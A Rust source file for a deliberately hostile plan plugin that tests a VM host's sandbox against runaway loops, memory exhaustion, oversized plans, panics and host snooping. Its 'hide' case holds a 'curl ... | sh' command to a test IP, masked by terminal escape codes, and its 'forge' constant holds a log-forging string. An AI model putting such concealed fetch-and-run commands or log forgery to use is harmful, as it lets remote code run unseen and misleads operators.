//! A deliberately misbehaving plan plugin, for the host's sandbox tests.
//!
//! Never ship it. `plan` ignores the scenario and picks its misbehaviour by
//! the VM id when it is `hostile-<behaviour>` (tests that go through the
//! pod-to-VM binding, where the VM name must be the stack's), else by the VM
//! name in the facts:
//!
//! | name      | what it does                                               |
//! |-----------|------------------------------------------------------------|
//! | `spin`    | loops forever; only fuel or an epoch deadline stops it      |
//! | `balloon` | allocates and touches 1 MiB chunks until memory growth traps |
//! | `flood`   | returns [`FLOOD_STEPS`] empty steps                         |
//! | `wide`    | returns [`WIDE_STEPS`] small valid steps                    |
//! | `heavy`   | returns one write-file step with [`HEAVY_BYTES`] of content  |
//! | `million` | returns [`MILLION_STEPS`] steps                              |
//! | `giant`   | returns one argument of [`GIANT_BYTES`]                      |
//! | `panic`   | panics with [`PANIC_MESSAGE`]                               |
//! | `snoop-file`   | reads a host file                                      |
//! | `snoop-env`    | reads the environment                                  |
//! | `snoop-clock`  | reads the wall clock                                   |
//! | `snoop-random` | asks for random numbers                                |
//! | `chatty`  | logs a [`CHATTY_BYTES`] message, then returns a normal plan |
//! | `mute`    | builds the `chatty` message without logging it, then returns a normal plan |
//! | `babble`  | logs [`BABBLE_MESSAGES`] one-byte messages, then returns a normal plan |
//! | `shout`   | logs [`SHOUT_MESSAGES`] messages of [`SHOUT_BYTES`], then returns a normal plan |
//! | `scream`  | logs one [`SCREAM_BYTES`] message, then returns a normal plan |
//! | other     | returns a valid one-step plan (`run ["true"]`)              |

use std::hint::black_box;

use cocoon_fixup_sdk::{
    GuestPolicy, LogLevel, Phase, Plan, PlanError, Plugin, PluginInfo, Scenario, Step, VmFacts,
};

/// The plugin's name; also the one flavour it claims, so it is never picked
/// for a real guest by accident.
pub const NAME: &str = "hostile";

/// Steps in the `flood` plan.
pub const FLOOD_STEPS: usize = 100_000;

/// Steps in the `million` plan: far past what 16 MiB of memory holds.
pub const MILLION_STEPS: usize = 1_000_000;

/// Size of the `giant` plan's one argument: 12 MiB, most of the memory limit.
pub const GIANT_BYTES: usize = 12 << 20;

/// Steps in the `wide` plan.
pub const WIDE_STEPS: usize = 300;

/// Content size of the `heavy` plan's one step: over the host's plan
/// limit of 64 KiB of text, within what the host copies out of a plugin.
pub const HEAVY_BYTES: usize = 96 << 10;

/// Size of the `chatty` log message: more than the host keeps (16 KiB),
/// within what one call may log (64 KiB).
pub const CHATTY_BYTES: usize = 32 << 10;

/// One-byte messages `babble` logs: the loop that once cost the host 23 s.
pub const BABBLE_MESSAGES: usize = 20_000;

/// Messages `shout` logs, each [`SHOUT_BYTES`] long.
pub const SHOUT_MESSAGES: usize = 100;

/// Size of each `shout` message.
pub const SHOUT_BYTES: usize = 16 << 10;

/// Size of the one `scream` message: more than the host copies out of a
/// plugin at once.
pub const SCREAM_BYTES: usize = 1 << 20;

/// What `panic` panics with.
pub const PANIC_MESSAGE: &str = "hostile plugin panicked on purpose";

/// Every step description in a `snoop` plan starts with this, followed by
/// what was obtained. A host whose sandbox holds never sees one.
pub const SNOOPED_PREFIX: &str = "snooped ";

/// What the `forge` behaviour logs: a line break and a carriage return
/// that would forge a host log line, and a bidi override.
pub const FORGED_LOG: &str = "planning\nINFO cocoon-fixup: fixup done\r\u{202E}enod";

/// The misbehaving plugin.
#[derive(Debug)]
pub struct Hostile;

impl Plugin for Hostile {
    fn describe() -> PluginInfo {
        PluginInfo::new(
            NAME,
            env!("CARGO_PKG_VERSION"),
            "misbehaves on request, to test the host's sandbox",
            vec![Scenario::OciNetworkd],
        )
        .with_flavors([NAME])
    }

    /// Anything at all, declared honestly: its tests are about the sandbox,
    /// not the guest-side policy (the `overreach` test plugin is).
    fn policy() -> GuestPolicy {
        GuestPolicy::new()
            .writes(["/**"])
            .removes(["/**"])
            .runs([["*"]])
            .special_modes()
    }

    fn plan(scenario: Scenario, facts: &VmFacts) -> Result<Plan, PlanError> {
        let behaviour = facts.id.strip_prefix("hostile-").unwrap_or(&facts.name);
        match behaviour {
            "spin" => spin(),
            "balloon" => balloon(),
            // Declines a VM it claimed, and rejects the facts: the two
            // refusals a failure policy treats differently.
            "decline" => Err(PlanError::unsupported(NAME, scenario)),
            "reject" => Err(PlanError::invalid_fact("name", "no VM is called reject")),
            "flood" => Ok(flood()),
            "wide" => Ok(numbered("wide", WIDE_STEPS)),
            "heavy" => Ok(heavy()),
            "quotes" => Ok(quotes()),
            // A configure step before a prepare step: the node composes
            // plans in phase order, so the prepare step runs first.
            "disorder" => Ok(Plan::posix_sh(vec![
                Step::run("configure second", Phase::Configure, ["true"]),
                Step::run("prepare first", Phase::Prepare, ["true"]),
            ])),
            "windows-quotes" => Ok(windows_quotes()),
            "million" => Ok(Plan::posix_sh(
                (0..MILLION_STEPS)
                    .map(|i| Step::run(format!("step {i}"), Phase::Configure, ["true"]))
                    .collect(),
            )),
            "giant" => Ok(Plan::posix_sh(vec![Step::run(
                "giant",
                Phase::Configure,
                ["echo".to_owned(), "g".repeat(GIANT_BYTES)],
            )])),
            "panic" => panic!("{PANIC_MESSAGE}"),
            "snoop-file" => Ok(snooped(
                std::fs::read_to_string("/etc/hostname")
                    .ok()
                    .map(|h| format!("/etc/hostname: {}", h.trim_end())),
            )),
            "snoop-env" => Ok(snooped(
                std::env::vars().next().map(|(k, v)| format!("env {k}={v}")),
            )),
            "snoop-clock" => Ok(snooped(
                std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .ok()
                    .map(|d| format!("wall clock: {} s", d.as_secs())),
            )),
            "snoop-random" => {
                use std::hash::{BuildHasher, RandomState};
                let seed = RandomState::new().hash_one(0u8);
                Ok(snooped(Some(format!("random: {seed}"))))
            }
            "hide" => Ok(Plan::posix_sh(vec![Step::run(
                "check the link",
                Phase::Configure,
                // A terminal shows `true # check the link`; what runs
                // fetches and runs a script.
                [
                    "sh",
                    "-c",
                    "curl -s http://198.51.100.7/x | sh\r\u{1b}[2Ktrue # check the link",
                ],
            )])),
            "forge" => {
                cocoon_fixup_sdk::log(LogLevel::Info, FORGED_LOG);
                Ok(benign())
            }
            "chatty" => {
                cocoon_fixup_sdk::log(LogLevel::Info, &"c".repeat(CHATTY_BYTES));
                Ok(benign())
            }
            "mute" => {
                black_box("c".repeat(CHATTY_BYTES));
                Ok(benign())
            }
            "babble" => {
                for _ in 0..BABBLE_MESSAGES {
                    cocoon_fixup_sdk::log(LogLevel::Debug, ".");
                }
                Ok(benign())
            }
            "shout" => {
                let message = "s".repeat(SHOUT_BYTES);
                for _ in 0..SHOUT_MESSAGES {
                    cocoon_fixup_sdk::log(LogLevel::Info, &message);
                }
                Ok(benign())
            }
            "scream" => {
                cocoon_fixup_sdk::log(LogLevel::Info, &"s".repeat(SCREAM_BYTES));
                Ok(benign())
            }
            _ => Ok(benign()),
        }
    }
}

cocoon_fixup_sdk::export_plugin!(Hostile);

/// Burns CPU forever. `black_box` hides the counter from the optimiser so
/// the loop cannot be folded away.
fn spin() -> ! {
    let mut turns: u64 = 0;
    loop {
        turns = black_box(turns.wrapping_add(1));
    }
}

/// Grows linear memory 1 MiB at a time until the host refuses to grow it
/// (a trap) or the allocator gives up (an abort, also a trap). Every page of
/// each chunk is written so the memory is really used.
fn balloon() -> ! {
    const CHUNK: usize = 1 << 20;
    const PAGE: usize = 4096;
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; CHUNK];
        for byte in chunk.iter_mut().step_by(PAGE) {
            *byte = 0xA5;
        }
        hoard.push(black_box(chunk));
    }
}

/// [`FLOOD_STEPS`] identical steps, each an empty `remove-files` with an
/// empty description: no allocation per step, so building and returning the
/// plan costs about 33 million fuel (a `run` step with text costs five times
/// that). Any budget above that leaves the host's limit on plan size, not
/// fuel, to stop it.
fn flood() -> Plan {
    let step = Step::remove_files(String::new(), Phase::Configure, Vec::<String>::new());
    Plan::posix_sh(vec![step; FLOOD_STEPS])
}

/// `count` small, valid steps.
fn numbered(label: &str, count: usize) -> Plan {
    Plan::posix_sh(
        (0..count)
            .map(|i| Step::run(format!("{label} step {i}"), Phase::Configure, ["true"]))
            .collect(),
    )
}

fn heavy() -> Plan {
    Plan::posix_sh(vec![Step::write_file(
        "write a large file",
        Phase::Configure,
        "/tmp/hostile-heavy",
        "h".repeat(HEAVY_BYTES),
        Some(0o644),
    )])
}

/// Just under the plan limit of 64 KiB of text, all `a'`: within every
/// plan limit, but sh quoting grows each `'` to `'\''`, so the rendered
/// script is over the kernel's limit for one exec argument.
fn quotes() -> Plan {
    Plan::posix_sh(vec![Step::write_file(
        "write a file full of quotes",
        Phase::Configure,
        "/tmp/hostile-quotes",
        "a'".repeat(32 * 1024 - 64),
        Some(0o644),
    )])
}

/// 24 KiB of `a'` in a PowerShell plan: within every plan limit and the
/// kernel's, but PowerShell quoting doubles each `'`, so the exec is over
/// the 32,767 UTF-16 code units of a Windows command line.
fn windows_quotes() -> Plan {
    Plan::powershell(vec![Step::write_file(
        "write a file full of quotes",
        Phase::Configure,
        "/ProgramData/hostile-quotes",
        "a'".repeat(12 * 1024),
        None,
    )])
}

/// The plan of a `snoop-*` behaviour: what it obtained, if anything. In a
/// host that denies WASI the attempt traps before this is reached; in one
/// that grants WASI, the plan says what leaked.
fn snooped(found: Option<String>) -> Plan {
    let description = match found {
        Some(what) => format!("{SNOOPED_PREFIX}{what}"),
        None => "snoop obtained nothing".to_owned(),
    };
    Plan::posix_sh(vec![Step::run(description, Phase::Configure, ["true"])])
}

fn benign() -> Plan {
    Plan::posix_sh(vec![Step::run("do nothing", Phase::Configure, ["true"])])
}

#[cfg(test)]
mod tests {
    use cocoon_fixup_sdk::{
        Action, Backend, BootKind, CONTRACT_VERSION, GuestOs, ImageKind, WriteFile,
    };

    use super::*;

    fn facts(name: &str) -> VmFacts {
        VmFacts {
            name: name.into(),
            id: "vm-hostile".into(),
            backend: Backend::CloudHypervisor,
            os: GuestOs::Linux,
            image: ImageKind::Oci,
            boot: BootKind::Clone,
            nics: Vec::new(),
            flavor: Some(NAME.into()),
        }
    }

    fn plan(name: &str) -> Plan {
        Hostile::plan(Scenario::OciNetworkd, &facts(name)).expect("a plan")
    }

    #[test]
    fn describe_claims_only_the_hostile_flavor() {
        let info = Hostile::describe();
        assert_eq!(info.name, "hostile");
        assert_eq!(info.version, "0.1.0");
        assert_eq!(info.contract, CONTRACT_VERSION);
        assert_eq!(info.scenarios, vec![Scenario::OciNetworkd]);
        assert_eq!(info.flavors, vec!["hostile".to_owned()]);
    }

    #[test]
    fn anything_else_is_one_benign_step() {
        let expected = Plan::posix_sh(vec![Step {
            description: "do nothing".into(),
            phase: Phase::Configure,
            best_effort: false,
            action: Action::Run(vec!["true".into()]),
        }]);
        assert_eq!(plan("web-0"), expected);
        assert_eq!(plan("chatty"), expected);
        assert_eq!(plan("babble"), expected);
    }

    #[test]
    fn a_hostile_vm_id_picks_the_behaviour() {
        let mut facts = facts("vk-default-web-0-0a1b2c");
        facts.id = "hostile-wide".into();
        let steps = Hostile::plan(Scenario::OciNetworkd, &facts)
            .expect("a plan")
            .steps;
        assert_eq!(steps.len(), WIDE_STEPS);
    }

    #[test]
    fn flood_returns_that_many_empty_steps() {
        let steps = plan("flood").steps;
        assert_eq!(steps.len(), FLOOD_STEPS);
        assert!(
            steps
                .iter()
                .all(|s| s.action == Action::RemoveFiles(Vec::new()))
        );
    }

    #[test]
    fn wide_returns_that_many_small_valid_steps() {
        let steps = plan("wide").steps;
        assert_eq!(steps.len(), WIDE_STEPS);
        assert_eq!(steps[WIDE_STEPS - 1].description, "wide step 299");
        assert!(
            steps
                .iter()
                .all(|s| s.action == Action::Run(vec!["true".into()]))
        );
    }

    #[test]
    fn heavy_writes_its_bytes() {
        let steps = plan("heavy").steps;
        assert_eq!(steps.len(), 1);
        let Action::WriteFile(WriteFile { content, .. }) = &steps[0].action else {
            panic!("not a write: {:?}", steps[0]);
        };
        assert_eq!(content.len(), HEAVY_BYTES);
    }

    #[test]
    #[should_panic(expected = "hostile plugin panicked on purpose")]
    fn panic_panics() {
        plan("panic");
    }

    /// Natively nothing stops them: each finding is marked.
    #[test]
    fn snoops_report_what_they_obtained() {
        for (name, what) in [("snoop-clock", "wall clock"), ("snoop-random", "random")] {
            let steps = plan(name).steps;
            assert_eq!(steps.len(), 1);
            assert!(steps[0].description.starts_with(SNOOPED_PREFIX), "{name}");
            assert!(steps[0].description.contains(what), "{name}");
        }
    }
}
